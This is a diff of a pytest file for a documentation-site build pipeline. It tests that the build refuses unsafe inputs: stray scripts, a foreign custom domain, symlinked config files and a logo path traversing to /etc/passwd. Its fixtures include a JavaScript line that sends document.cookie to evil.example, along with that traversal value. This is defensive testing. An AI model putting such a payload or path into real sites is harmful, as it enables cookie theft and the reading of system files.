@@ -40,11 +40,13 @@ def _problems(project: Path, site: Path) -> tuple[list, list]:
 
 
 # ---- Cases that share one project: each problem is named at a file of its own case (a page named
-# like a file, a script in docs/, the appended snippet, clinic.yml's logo), so one check and one
-# build name them all (a run names every problem), and
+# like a file, a script in docs/, the appended snippet, clinic.yml's logo, docs/CNAME), so one check
+# and one build name them all (a run names every problem), and
 # test_the_shared_cases_are_every_problem_of_their_run shows nothing else is named: no case adds
 # a problem another case would be blamed for, and none hides one. A case that stops the engine, or
-# makes a settings or people file unreadable, still gets a project of its own (below).
+# makes a settings or people file unreadable, still gets a project of its own (below; a page nested
+# too deeply hides the snippet's and docs/CNAME's problems when it shares theirs), except the links
+# out of the project, each named at its own file: they share one.
 
 EVIL = "location.href = 'https://evil.example/?c=' + document.cookie;\n"
 SCRIPTS = ["assets/a11y.js", "assets/extra.JS", "attack/module.mjs", "assets/javascripts/bundle.cjs"]
@@ -71,6 +73,7 @@ def shared(tmp_path_factory) -> dict:
     clinic_text = clinic.read_text(encoding="utf-8")
     assert "logo: assets/logo.svg" in clinic_text
     clinic.write_text(clinic_text.replace("logo: assets/logo.svg", "logo: ../../../../etc/passwd", 1), encoding="utf-8")
+    (project / "docs/CNAME").write_bytes(b"evil.example\n")
     checked, built = _problems(project, root / "site")
     # Every case taken out: what the failed build staged must not reach the next build's site.
     for name in NAMED_LIKE_FILES + SCRIPTS:
@@ -78,20 +81,22 @@ def shared(tmp_path_factory) -> dict:
     (project / "docs/sitemap.xml").rmdir()
     snippet.write_text(snippet_text, encoding="utf-8")
     clinic.write_text(clinic_text, encoding="utf-8")
+    (project / "docs/CNAME").write_bytes(b"EXAMPLE.org.\n")   # the site's own host, as staff may write it
     fixed = build_in_process(project / "mkdocs.yml", root / "fixed-site", spelling=False, cards=False)
     return {"project": project, "checked": checked, "built": built, "snippet_lines": len(snippet_text.splitlines()),
-            "fixed": fixed, "fixed_site": root / "fixed-site"}
+            "site": root / "site", "fixed": fixed, "fixed_site": root / "fixed-site"}
 
 
 @pytest.mark.build
 def test_the_shared_cases_are_every_problem_of_their_run(shared):
     """The check and the build name the same errors, in the same order, and they are the cases'
-    own: the pages named like files, the scripts, the snippet's two lines and the logo, nothing else."""
+    own: the pages named like files, the scripts, the snippet's two lines, the logo, and the custom
+    domain, nothing else."""
     checked = shared["checked"]
     assert [str(problem) for problem in checked] == [str(problem) for problem in shared["built"]]
-    cases = {f"docs/{name}" for name in NAMED_LIKE_FILES + SCRIPTS} | {SNIPPET, "clinic.yml"}
+    cases = {f"docs/{name}" for name in NAMED_LIKE_FILES + SCRIPTS} | {SNIPPET, "clinic.yml", "docs/CNAME"}
     assert {problem.path for problem in checked} == cases, checked
-    assert len(checked) == len(NAMED_LIKE_FILES) + len(SCRIPTS) + 2 + 1, checked
+    assert len(checked) == len(NAMED_LIKE_FILES) + len(SCRIPTS) + 2 + 1 + 1, checked
 
 
 @pytest.mark.build
@@ -135,30 +140,53 @@ def test_a_refused_logo_is_one_problem_and_no_page_links_it(shared):
 # ---- Cases with a project of their own.
 
 @pytest.mark.build
-def test_a_folder_named_like_the_builds_own_file_is_one_problem_and_nothing_is_published(tmp_path):
-    project = copy_project(tmp_path / "project")
-    (project / "docs/robots.txt").mkdir()
-    (project / "docs/robots.txt/logo.svg").write_bytes((project / "docs/assets/logo.svg").read_bytes())
-    checked, built = _problems(project, tmp_path / "site")
-    assert [str(problem) for problem in checked] == [str(problem) for problem in built]
-    [problem] = checked
+def test_a_folder_named_like_the_builds_own_file_is_one_problem_and_nothing_is_published(linked):
+    """The folder docs/robots.txt/ of the `linked` copy (below; _problems asserts nothing was
+    published): one problem, at mkdocs.yml, in the same words from check and build."""
+    checked = linked["checked"]
+    assert [str(problem) for problem in checked] == [str(problem) for problem in linked["built"]]
+    [problem] = [problem for problem in checked if problem.path not in LINKED]
     assert problem.path == "mkdocs.yml" and "robots.txt" in problem.what and "rename it" in problem.fix
-    assert str(tmp_path) not in problem.what and "clinic-check-" not in problem.what
+    assert str(linked["root"]) not in problem.what and "clinic-check-" not in problem.what
+
+
+LINKED = ["clinic.yml", "docs/blog/.authors.yml", "docs/guide/claims.yml"]
+
+
+@pytest.fixture(scope="module")
+def linked(tmp_path_factory) -> dict:
+    """One copy in which each of LINKED is a link to a file outside the project (a copy of its
+    own, with a word no problem may show), and docs/ holds a folder named robots.txt; its check's
+    and its build's errors. Each link is named at its own file as the stage reads it, and the
+    folder at mkdocs.yml once the post-build stage fails on it, so the four share one run."""
+    root = tmp_path_factory.mktemp("linked")
+    project = copy_project(root / "project")
+    for name in LINKED:
+        outside = root / f"outside-{name.replace('/', '-')}"
+        outside.write_text((project / name).read_text(encoding="utf-8").replace("Riverbend", "Zqxsecret"),
+                           encoding="utf-8")
+        (project / name).unlink()
+        (project / name).symlink_to(outside)
+    (project / "docs/robots.txt").mkdir()   # a folder named like the build's own file, below
+    (project / "docs/robots.txt/logo.svg").write_bytes((project / "docs/assets/logo.svg").read_bytes())
+    checked, built = _problems(project, root / "site")
+    return {"checked": checked, "built": built, "root": root}
 
 
 @pytest.mark.build
-@pytest.mark.parametrize("name", ["clinic.yml", "docs/blog/.authors.yml", "docs/guide/claims.yml"])
-def test_a_staff_yaml_file_that_is_a_link_out_of_the_project_is_refused_unread(tmp_path, name):
-    project = copy_project(tmp_path / "project")
-    outside = tmp_path / "outside.yml"
-    outside.write_text((project / name).read_text(encoding="utf-8").replace("Riverbend", "Zqxsecret"),
-                       encoding="utf-8")
-    (project / name).unlink()
-    (project / name).symlink_to(outside)
-    checked, built = _problems(project, tmp_path / "site")
-    assert [str(problem) for problem in checked] == [str(problem) for problem in built]
+@pytest.mark.parametrize("name", LINKED)
+def test_a_staff_yaml_file_that_is_a_link_out_of_the_project_is_refused_unread(linked, name):
+    checked = linked["checked"]
+    assert [str(problem) for problem in checked] == [str(problem) for problem in linked["built"]]
     assert any(problem.path == name and "symbolic link" in problem.what for problem in checked), checked
     assert not any("Zqxsecret" in str(problem) for problem in checked)
+
+
+@pytest.mark.build
+def test_the_linked_files_are_every_problem_of_their_run(linked):
+    """Each link is one problem at its own file, the folder one at mkdocs.yml, and nothing else is
+    named: none hides another's."""
+    assert sorted(problem.path for problem in linked["checked"]) == sorted([*LINKED, "mkdocs.yml"]), linked["checked"]
 
 
 @pytest.mark.build
@@ -196,18 +224,12 @@ def test_the_custom_domain_file_may_name_only_the_sites_own_host(data, accepted)
 
 
 @pytest.mark.build
-def test_the_custom_domain_rule_stops_the_check_and_the_build_alike(tmp_path):
+def test_the_custom_domain_rule_stops_the_check_and_the_build_alike(shared):
     """The rule above, wired into every run: a CNAME naming another host is named by the check and
     the build in the same words and nothing is published; the site's own host is published as written."""
-    project = copy_project(tmp_path / "project")
-    (project / "docs/CNAME").write_bytes(b"evil.example\n")
-    checked = errors(pipeline.check(Project.find(project / "mkdocs.yml"), spelling=False))
-    built = build_in_process(project / "mkdocs.yml", tmp_path / "refused", spelling=False, cards=False)
-    [problem] = [problem for problem in checked if problem.path == "docs/CNAME"]
+    [problem] = [problem for problem in shared["checked"] if problem.path == "docs/CNAME"]
     assert problem.line == 1 and "'evil.example'" in problem.what, problem
-    assert isinstance(built, ProblemsFound) and not (tmp_path / "refused/CNAME").exists()
-    assert [str(p) for p in errors(built.problems) if p.path == "docs/CNAME"] == [str(problem)]
-    (project / "docs/CNAME").write_bytes(b"EXAMPLE.org.\n")
-    built = build_in_process(project / "mkdocs.yml", tmp_path / "accepted", spelling=False, cards=False)
-    assert not isinstance(built, ProblemsFound), built
-    assert (tmp_path / "accepted/CNAME").read_bytes() == b"EXAMPLE.org.\n"
+    assert [str(p) for p in shared["built"] if p.path == "docs/CNAME"] == [str(problem)]
+    assert not (shared["site"] / "CNAME").exists()
+    assert not isinstance(shared["fixed"], ProblemsFound), shared["fixed"]
+    assert (shared["fixed_site"] / "CNAME").read_bytes() == b"EXAMPLE.org.\n"
